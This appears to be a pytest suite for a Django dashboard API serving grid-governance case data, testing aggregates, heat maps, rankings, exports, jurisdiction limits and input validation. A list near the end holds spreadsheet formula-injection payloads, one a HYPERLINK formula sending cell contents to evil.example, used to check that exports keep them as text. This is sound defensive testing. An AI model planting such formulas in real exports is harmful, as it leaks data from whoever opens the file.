"""Dashboard API: contracts, exact figures on known cases, jurisdiction, bad input."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from .conftest import MARCH, at, make_case

pytestmark = pytest.mark.django_db

URLS = [
    "/api/dashboard/aggregate/?level=district",
    "/api/dashboard/heat/?bbox=119,29,121,31&zoom=11",
    "/api/dashboard/ranking/?level=district&period=2020-03",
    "/api/dashboard/cases/",
    "/api/dashboard/export/?format=csv",
]


@pytest.mark.parametrize("url", URLS)
def test_anonymous_is_refused(api, url):
    assert api.get(url).status_code == 403  # as every anonymous API call (reliability/access.py)


def test_aggregate_by_township_exact_metrics(user_api, march_cases):
    r = user_api("city_supervisor").get(f"/api/dashboard/aggregate/?level=township&metric=closure_rate&{MARCH}")
    assert r.status_code == 200
    body = r.json()
    assert body["level"] == "township" and body["metric"] == "closure_rate"
    t1 = body["areas"]["330106001"]
    # 3 cases; the rejected one is not work: 1 accepted of 2 → 0.5; mean 2 days; 1 overdue.
    assert (t1["count"], t1["overdue"], t1["closure_rate"], t1["mean_days"]) == (3, 1, 0.5, 2.0)
    assert t1["value"] == 0.5
    t2 = body["areas"]["330106002"]
    assert (t2["count"], t2["closure_rate"], t2["mean_days"]) == (1, 1.0, 6.0)
    # Areas without cases are listed with zero counts (no holes in the choropleth).
    assert body["areas"]["330106003"]["count"] == 0
    assert body["areas"]["330106003"]["value"] is None
    assert len(body["areas"]) > 200


def test_aggregate_district_and_grid_and_category(user_api, march_cases):
    client = user_api("city_supervisor")
    body = client.get(f"/api/dashboard/aggregate/?level=district&metric=overdue&{MARCH}").json()
    assert body["areas"]["330106"]["value"] == 1 and body["areas"]["330102"]["value"] == 0
    grid = client.get(f"/api/dashboard/aggregate/?level=grid&parent=330106001&{MARCH}").json()
    cell = march_cases["a"].grid_cell_code
    assert grid["areas"][cell]["count"] == 3
    assert all(code.startswith("330106001") for code in grid["areas"])
    none = client.get(f"/api/dashboard/aggregate/?level=district&category=water&{MARCH}").json()
    assert none["areas"]["330106"]["count"] == 0
    air = client.get(f"/api/dashboard/aggregate/?level=district&category=air&{MARCH}").json()
    assert air["areas"]["330106"]["count"] == 4


def test_aggregate_geojson(user_api, march_cases):
    r = user_api("district_supervisor").get(
        f"/api/dashboard/aggregate/?level=township&parent=330106&format=geojson&metric=count&{MARCH}"
    )
    assert r.status_code == 200
    fc = r.json()
    assert fc["type"] == "FeatureCollection"
    props = {f["properties"]["code"]: f["properties"] for f in fc["features"]}
    assert props["330106001"]["value"] == 3
    assert fc["features"][0]["geometry"]["type"] in ("Polygon", "MultiPolygon")
    assert fc["range"] == [0, 3]


def test_district_supervisor_sees_only_their_district(user_api, march_cases):
    client = user_api("district_supervisor")
    body = client.get(f"/api/dashboard/aggregate/?level=district&{MARCH}").json()
    assert list(body["areas"]) == ["330106"]
    towns = client.get(f"/api/dashboard/aggregate/?level=township&{MARCH}").json()["areas"]
    assert all(code.startswith("330106") for code in towns)
    heat = client.get(f"/api/dashboard/heat/?bbox=119,29,121,31&zoom=9&{MARCH}").json()
    assert heat["total"] == 4  # the 上城区 case is not counted
    # Out of scope answers as missing.
    assert client.get("/api/dashboard/cases/?area=330102001").status_code == 404
    assert client.get("/api/dashboard/aggregate/?level=grid&parent=330102").status_code == 404
    ranking = client.get("/api/dashboard/ranking/?level=district&period=2020-03").json()
    assert [r["code"] for r in ranking["results"]] == ["330106"]


def test_responsible_unit_sees_only_its_own_cases(user_api, march_cases):
    from gridgov.models import User

    unit = User.objects.get(username="responsible_unit")
    assert unit.organization_id
    march_cases["b"].responsible_unit_id = unit.organization_id
    march_cases["b"].save(update_fields=["responsible_unit"])
    body = user_api("responsible_unit").get(f"/api/dashboard/aggregate/?level=district&{MARCH}").json()
    assert body["areas"]["330106"]["count"] == 1


def test_heat_bins_are_weighted_and_sized_to_the_zoom(user_api, march_cases):
    client = user_api("city_supervisor")
    low = client.get(f"/api/dashboard/heat/?bbox=119,29,121,31&zoom=8&{MARCH}").json()
    assert low["total"] == 5
    assert sum(p[2] for p in low["points"]) == 5
    assert low["max"] == 3  # the three cases in one cell fall in one bin
    high = client.get(f"/api/dashboard/heat/?bbox=119,29,121,31&zoom=16&{MARCH}").json()
    assert high["cell_m"] < low["cell_m"]
    lat, lon, n = low["points"][0]
    assert 29 < lat < 31 and 119 < lon < 121 and n >= 1
    outside = client.get(f"/api/dashboard/heat/?bbox=100,20,101,21&zoom=8&{MARCH}").json()
    assert outside["points"] == []


def test_ranking_with_change_of_rank(user_api, march_cases):
    r = user_api("city_supervisor").get("/api/dashboard/ranking/?level=township&period=2020-03&order=closure_rate")
    assert r.status_code == 200
    body = r.json()
    assert body["previous_period"] == "2020-02"
    rows = {x["code"]: x for x in body["results"]}
    # March closure: 330106002 1.0, 330102001 1.0 (tied first), 330106001 0.5 third.
    assert rows["330106002"]["rank"] == 1 and rows["330102001"]["rank"] == 1
    assert rows["330106001"]["rank"] == 3
    # February: only 330106002 had cases: ranked 1st both months (持平); the others were not
    # ranked in February (no case, no rate), so they have no previous rank and no arrow.
    assert rows["330106002"]["previous_rank"] == 1 and rows["330106002"]["rank_change"] == 0
    assert rows["330106002"]["trend"] == "same"
    assert rows["330106001"]["previous_rank"] is None and rows["330106001"]["rank_change"] is None
    assert rows["330106001"]["trend"] is None
    # A township with no case in either month is unranked, listed after the ranked ones.
    empty = [x for x in body["results"] if x["metrics"]["count"] == 0]
    assert empty and all(x["rank"] is None and x["trend"] is None for x in empty)
    assert body["results"][: len(body["results"]) - len(empty)] == [x for x in body["results"] if x["rank"]]
    m = rows["330106001"]["metrics"]
    assert m["overdue"] == 1 and m["on_time_rate"] == 1.0 and m["per_cell"] > 0
    assert rows["330106002"]["metrics"]["on_time_rate"] == 0.0
    assert set(rows["330106001"]["ranks"]) == {"closure_rate", "on_time_rate", "overdue", "per_cell"}


def test_cases_list_is_paginated(user_api, march_cases):
    client = user_api("district_supervisor")
    body = client.get(f"/api/dashboard/cases/?area=330106001&{MARCH}").json()
    assert body["area"]["name"] and body["page"] == 1 and not body["has_next"]
    assert {c["id"] for c in body["results"]} == {march_cases[k].pk for k in "abc"}
    assert [c["overdue"] for c in body["results"] if c["id"] == march_cases["b"].pk] == [True]


def test_export_csv_has_every_stage_time(user_api, march_cases):
    r = user_api("district_supervisor").get(f"/api/dashboard/export/?format=csv&{MARCH}")
    assert r.status_code == 200
    assert r["Content-Disposition"].startswith("attachment")
    text = b"".join(r.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header = rows[0]
    for col in (
        "上报时间",
        "立案时间",
        "交办时间",
        "整改期限",
        "整改提交时间",
        "验收时间",
        "督办时间",
        "曝光时间",
        "结案时间",
    ):
        assert col in header
    assert len(rows) == 1 + 4  # the 上城区 case is outside the district


def test_export_xlsx(user_api, march_cases):
    r = user_api("city_supervisor").get(f"/api/dashboard/export/?format=xlsx&{MARCH}")
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).active
    rows = list(ws.values)
    assert rows[0][0] == "编号" and len(rows) == 6


def test_export_over_the_row_limit_names_the_limit(user_api, march_cases, monkeypatch):
    from dashboard import exports

    monkeypatch.setattr(exports, "EXPORT_MAX_ROWS", 3)
    r = user_api("city_supervisor").get(f"/api/dashboard/export/?format=csv&{MARCH}")
    assert r.status_code == 400
    body = r.json()
    assert body["field"] == "limit" and "3" in body["message"] and body["limit"] == 3


BAD = [
    ("/api/dashboard/aggregate/?level=county", "level"),
    ("/api/dashboard/aggregate/", "level"),
    ("/api/dashboard/aggregate/?level=district&metric=speed", "metric"),
    ("/api/dashboard/aggregate/?level=district&since=2020-02-30", "since"),
    ("/api/dashboard/aggregate/?level=district&until=yesterday", "until"),
    ("/api/dashboard/aggregate/?level=district&since=2020-03-05&until=2020-03-01", "until"),
    ("/api/dashboard/aggregate/?level=district&category=nope", "category"),
    ("/api/dashboard/aggregate/?level=district&format=kml", "format"),
    ("/api/dashboard/heat/?bbox=1,2,3&zoom=10", "bbox"),
    ("/api/dashboard/heat/?bbox=a,b,c,d&zoom=10", "bbox"),
    ("/api/dashboard/heat/?bbox=119,29,121,95&zoom=10", "bbox"),
    ("/api/dashboard/heat/?bbox=119,29,200,31&zoom=10", "bbox"),
    ("/api/dashboard/heat/?zoom=10", "bbox"),
    ("/api/dashboard/heat/?bbox=119,29,121,31&zoom=25", "zoom"),
    ("/api/dashboard/heat/?bbox=119,29,121,31&zoom=1", "zoom"),
    ("/api/dashboard/heat/?bbox=119,29,121,31&zoom=x", "zoom"),
    ("/api/dashboard/heat/?bbox=119,29,121,31", "zoom"),
    ("/api/dashboard/ranking/?level=grid&period=2020-03", "parent"),  # grid cells of which township
    ("/api/dashboard/ranking/?level=district&period=2020-13", "period"),
    ("/api/dashboard/ranking/?level=district", "period"),
    ("/api/dashboard/ranking/?level=district&period=2020-03&order=fun", "order"),
    ("/api/dashboard/export/?format=pdf", "format"),
    ("/api/dashboard/export/", "format"),
    ("/api/dashboard/cases/?page=0", "page"),
    ("/api/dashboard/cases/?status=lost", "status"),
    ("/api/dashboard/cases/?district=33", "district"),
]


@pytest.mark.parametrize("url,field", BAD)
def test_bad_input_is_400_naming_the_parameter(user_api, url, field):
    r = user_api("city_supervisor").get(url)
    assert r.status_code == 400, r.content
    assert r.json()["field"] == field


def test_until_date_includes_the_whole_day(user_api, db):
    make_case(township="330106001", status="reported", reported=at(31, hour=23))
    body = user_api("city_supervisor").get(f"/api/dashboard/aggregate/?level=district&{MARCH}").json()
    assert body["areas"]["330106"]["count"] == 1


def test_schema_documents_the_dashboard(api):
    r = api.get("/api/schema/")
    text = r.content.decode()
    for path in (
        "/api/dashboard/aggregate/",
        "/api/dashboard/heat/",
        "/api/dashboard/ranking/",
        "/api/dashboard/export/",
    ):
        assert path in text


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1", "\r=1"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_keeps_formulas_as_text(user_api, db, fmt):
    """Issue 12.3: a description planted through Open311 never becomes a live formula."""
    import zipfile

    for i, text in enumerate(FORMULAS):
        make_case(township="330106001", status="reported", reported=at(10 + i), description=text)
    r = user_api("city_supervisor").get(f"/api/dashboard/export/?format={fmt}&{MARCH}")
    assert r.status_code == 200
    column = None
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode("utf-8-sig"))))
        column = [row[rows[0].index("问题描述")] for row in rows[1:]]
        assert sorted(column) == sorted("'" + t for t in FORMULAS)
    else:
        sheet = zipfile.ZipFile(io.BytesIO(r.content)).read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet and b"<f " not in sheet  # no formula cell at all
        ws = load_workbook(io.BytesIO(r.content)).active
        header = [c.value for c in ws[1]]
        cells = [row[header.index("问题描述")] for row in ws.iter_rows(min_row=2)]
        assert all(c.data_type == "s" for c in cells)
        # (line ends are written as LF, what XML makes of a stored CR: still text, never a formula.)
        assert sorted(c.value for c in cells) == sorted(t.replace("\r", "\n") for t in FORMULAS)
